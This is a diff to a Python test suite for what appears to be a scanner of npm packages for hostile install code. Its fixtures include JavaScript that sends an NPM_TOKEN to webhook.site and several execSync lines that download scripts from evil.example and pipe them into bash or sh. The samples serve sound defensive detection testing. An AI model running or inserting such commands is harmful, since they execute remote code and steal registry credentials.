@@ -86,3 +86,50 @@ def test_many_commented_hosts_hide_no_live_one(tmp_path: Path) -> None:
     code = decoys + "https.get('https://webhook.site/live?d=' + process.env.NPM_TOKEN);\n"
     code = "const https = require('https');\n" + code
     assert _found(_package(tmp_path, code, install=True))["GH-EXFIL-WEBHOOK"] == "high"
+
+
+# A process manager's hint: the command that installs a version manager, shown after a shell
+# prompt and handed to the tool's own printer (no console call the engine knows).
+_HINT = """const path = require('path');
+const { execSync } = require('child_process');
+
+function useVersion(app, out) {
+  const home = process.env.NVM_DIR;
+  if (!home) {
+    const msg = process.platform === 'win32'
+      ? 'https://example.com/version-manager/releases/'
+      : '$ curl -fsSL https://example.com/version-manager/install.sh | bash';
+    out.printError('Install the version manager:\\n' + msg);
+    return null;
+  }
+  return execSync('ls ' + path.join(home, 'versions'));
+}
+module.exports = { useVersion };
+"""
+
+
+def test_a_command_after_a_shell_prompt_is_text(tmp_path: Path) -> None:
+    """pm2@5.4.3, 6.0.14 and 7.0.4 ``lib/Common.js``: ``'$ curl https://…/nvm/…/install.sh |
+    bash'`` kept in a variable its own printer (``Common.printOut``) shows; with every file
+    taken as install-reachable it read GH-INSTALL-FETCH-EXEC high. Given to a shell, ``$`` is
+    the command and the download its argument: nothing is fetched."""
+    assert "GH-INSTALL-FETCH-EXEC" not in _found(_package(tmp_path, _HINT, install=True))
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        "execSync('curl -fsSL https://evil.example/i.sh | bash');",
+        # a separator after the prompt's command: the download is its own command
+        "execSync('$ true; curl -fsSL https://evil.example/i.sh | sh');",
+        "execSync('echo $ && curl -fsSL https://evil.example/i.sh | sh');",
+        # a `$` glued to a name is a variable, not a prompt
+        "execSync('$CURL_OPTS curl -fsSL https://evil.example/i.sh | bash');",
+        # a template literal with an expression is code
+        "execSync(`${pre} curl -fsSL https://evil.example/i.sh | bash`);",
+    ],
+)
+def test_a_download_run_beside_the_prompt_hint_is_still_found(tmp_path: Path, run: str) -> None:
+    """The technique (a download piped into a shell and run) in the same file stays high."""
+    code = _HINT + run + "\n"
+    assert _found(_package(tmp_path, code, install=True))["GH-INSTALL-FETCH-EXEC"] == "high"
